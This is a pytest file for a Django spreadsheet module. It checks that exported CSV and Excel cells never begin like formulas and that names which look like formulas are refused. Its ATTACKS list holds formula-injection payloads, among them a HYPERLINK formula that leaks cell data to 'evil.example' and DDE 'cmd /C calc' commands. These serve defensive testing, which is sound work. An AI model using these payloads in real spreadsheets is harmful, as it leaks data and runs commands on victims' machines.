"""yimen.spreadsheets: no text written to a spreadsheet can be a formula; numbers stay
numbers; typed-in names that would be formulas are refused."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from openpyxl import Workbook, load_workbook

from yimen.spreadsheets import (
    DANGEROUS_STARTS,
    csv_writer,
    refuse_formula_text,
    safe_cell,
    xlsx_append,
)

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def dangerous(text: str) -> bool:
    return text.startswith(DANGEROUS_STARTS)


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_that_could_be_a_formula_is_quoted(attack):
    assert safe_cell(attack) == "'" + attack
    assert not dangerous(safe_cell(attack))


@pytest.mark.parametrize(
    "value", [Decimal("-12.00"), -3, -0.5, 0, None, date(2026, 1, 1), "-12.00", "+3", "王小明"]
)
def test_numbers_dates_and_plain_text_are_unchanged(value):
    assert safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)


@pytest.mark.parametrize("write_only", [False, True])
def test_excel_cells_are_text_never_formulas_and_numbers_stay_numbers(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    xlsx_append(sheet, [*ATTACKS, -12.5, Decimal("-3.20"), 7, "-12.00", None])
    buffer = io.BytesIO()
    book.save(buffer)
    cells = next(load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0].iter_rows())
    texts = cells[: len(ATTACKS)]
    assert [c.data_type for c in texts] == ["s"] * len(ATTACKS)
    # (XML turns a carriage return into a line feed)
    assert [c.value for c in texts] == ["'" + a.replace("\r", "\n") for a in ATTACKS]
    numbers = cells[len(ATTACKS) : len(ATTACKS) + 3]
    assert [(c.data_type, c.value) for c in numbers] == [("n", -12.5), ("n", -3.2), ("n", 7)]
    text_number = cells[len(ATTACKS) + 3]
    assert (text_number.data_type, text_number.value) == ("s", "-12.00")


def test_csv_fields_never_start_like_a_formula():
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerow([*ATTACKS, Decimal("-12.00")])
    writer.writerows([[a] for a in ATTACKS])
    rows = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    fields = [f for row in rows for f in row]
    assert fields[len(ATTACKS)] == "-12.00"  # a negative amount stays the number
    assert not [f for f in fields if dangerous(f) and f != "-12.00"]


@pytest.mark.parametrize("attack", [*ATTACKS, " =1+1", "\u3000=1+1"])
def test_a_typed_in_name_like_a_formula_is_refused_in_both_languages(attack):
    from django.utils import translation

    with pytest.raises(ValidationError) as refused:
        refuse_formula_text(attack)
    message = refused.value.messages[0]
    with translation.override("zh-hans"):
        assert "公式" in str(refused.value.message)
    with translation.override("en"):
        assert "formula" in str(refused.value.message)
    assert message


@pytest.mark.parametrize("name", ["王小明", "A-Li", "李 =", ""])
def test_ordinary_names_are_accepted(name):
    refuse_formula_text(name)  # no error
